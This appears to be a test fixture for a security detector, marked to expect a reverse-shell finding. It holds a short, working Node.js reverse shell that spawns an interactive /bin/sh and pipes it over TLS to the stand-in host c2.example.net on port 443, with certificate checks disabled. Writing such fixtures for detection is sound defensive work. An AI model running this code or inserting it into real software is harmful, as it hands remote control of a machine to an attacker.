// expect: reverse-shell 5:12
const tls = require('tls');
const { spawn } = require('child_process');

const sh = spawn('/bin/sh', ['-i']);
const c = tls.connect(443, 'c2.example.net', { rejectUnauthorized: false }, () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
  sh.stderr.pipe(c);
});
